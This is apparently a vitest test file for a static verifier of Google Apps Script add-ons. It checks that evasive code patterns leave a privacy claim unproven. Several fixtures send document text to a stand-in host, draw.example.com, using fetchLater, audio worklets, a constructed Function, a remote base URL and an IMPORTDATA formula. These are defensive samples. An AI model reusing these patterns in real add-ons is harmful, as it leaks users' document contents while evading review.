import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ClaimId } from '@crenwiz/policy'
import { expect, test } from 'vitest'
import { verify } from '../../src/verify.ts'

const menu = "function onOpen() { DocumentApp.getUi().createAddonMenu().addItem('Go', 'go').addToUi(); }\n"
const text = 'DocumentApp.getActiveDocument().getBody().getText()'
const sidebar = `function onOpen() { DocumentApp.getUi().showSidebar(HtmlService.createHtmlOutputFromFile('side')); }
function getText() { return ${text}; }`
const page = (script: string, head = '') =>
  `<html><head>${head}</head><body><script>google.script.run.withSuccessHandler((text) => { ${script} }).getText()</script></body></html>`

interface Project {
  readonly code: string
  readonly side?: string
  readonly manifest?: Readonly<Record<string, unknown>>
}

const inPage = (script: string, head?: string): Project => ({ code: sidebar, side: page(script, head) })
const inScript = (body: string, manifest = {}): Project => ({
  code: `${menu}function go() { ${body} }`,
  manifest,
})
const service = (userSymbol: string, serviceId: string) => ({
  dependencies: { enabledAdvancedServices: [{ userSymbol, serviceId, version: 'v1' }] },
})

/** What keeps a claim open in a project whose code was read, and does something of which too little is known. */
async function gapsOf(claim: ClaimId, { code, side, manifest }: Project): Promise<readonly string[]> {
  const folder = await mkdtemp(join(tmpdir(), 'open-world-'))
  try {
    const all = { timeZone: 'Etc/UTC', runtimeVersion: 'V8', exceptionLogging: 'NONE', ...manifest }
    await writeFile(join(folder, 'appsscript.json'), JSON.stringify(all))
    await writeFile(join(folder, 'Code.gs'), code)
    if (side !== undefined) await writeFile(join(folder, 'side.html'), side)
    const report = await verify(folder, { isStatic: true })
    const judgement = report.claims.find((one) => one.claim.id === claim)?.judgement
    return judgement?.verdict === 'UNPROVEN' ? judgement.gaps.map((gap) => gap.code) : []
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

const stranger = 'https://draw.example.com/'
const calls: readonly (readonly [what: string, code: string, claim: ClaimId, project: Project])[] = [
  [
    'a function of the browser that nobody has read',
    'UNMODELLED_CALL',
    'C1',
    inPage(`fetchLater('${stranger}?t=' + text)`),
  ],
  [
    'a part of a thing of the browser that nobody has read',
    'UNMODELLED_CALL',
    'C1',
    inPage(`new AudioContext().audioWorklet.addModule('${stranger}?t=' + text)`),
  ],
  [
    'a member of an element that nobody has read',
    'UNMODELLED_CALL',
    'C1',
    inPage('document.body.showTo(text)'),
  ],
  ['a window behind a number', 'UNMODELLED_CALL', 'C1', inPage(`frames[0].fetch('${stranger}?t=' + text)`)],
  [
    'a function made of a text by its constructor',
    'NEW_FUNCTION',
    'C1',
    inPage("(() => {}).constructor('t', 'fetch(t)')(text)"),
  ],
  [
    'an element of the page’s own',
    'CUSTOM_ELEMENT',
    'C1',
    inPage(
      "customElements.define('x-y', class extends HTMLElement { connectedCallback() { fetch(this.title) } })",
    ),
  ],
  [
    'a base at another host',
    'REMOTE_BASE',
    'C1',
    inPage("fetch('words?t=' + text)", `<base href="${stranger}">`),
  ],
  [
    'a function that no script declares, called by a page',
    'FUNCTION_NOT_FOUND',
    'C1',
    inPage('google.script.run.elsewhere(text)'),
  ],
  [
    'a service of Google’s that nobody has read, and what it answers',
    'UNMODELLED_CALL',
    'C1',
    inScript(`Maps.newGeocoder().geocode(${text})`),
  ],
  [
    'a menu’s function that no script declares at its top',
    'FUNCTION_NOT_FOUND',
    'C1',
    { code: `${menu}var App = { go: function () { UrlFetchApp.fetch('${stranger}'); } };` },
  ],
  [
    'a file that the code names',
    'FILE_NAMED_IN_CODE',
    'C1',
    inScript(
      `SpreadsheetApp.openById('1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789').getSheets()[0].appendRow([${text}])`,
    ),
  ],
  [
    'a formula that puts an address together',
    'FORMULA_SENDS_CELLS',
    'C1',
    inScript(`SpreadsheetApp.getActiveSheet().getRange('A1').setFormula('=IMPORTDATA("${stranger}?t="&B1)')`),
  ],
  [
    'a script in a text',
    'SCRIPT_IN_TEXT',
    'C1',
    inScript(
      `DocumentApp.getUi().showSidebar(HtmlService.createHtmlOutput('<script>fetch("${stranger}")</' + 'script>'))`,
    ),
  ],
  [
    'a service outside Workspace',
    'SERVICE_OUTSIDE',
    'C9',
    inScript('BigQuery.Projects.list()', service('BigQuery', 'bigquery')),
  ],
  [
    'a check of certificates that may be off',
    'CERTIFICATE_CHECK_UNKNOWN',
    'C10',
    inScript(`UrlFetchApp.fetch('${stranger}', { validateHttpsCertificates: STRICT })`),
  ],
]

test.each(calls)('%s keeps the world open: %s', async (_, code, claim, project) => {
  expect(await gapsOf(claim, project)).toContain(code)
})
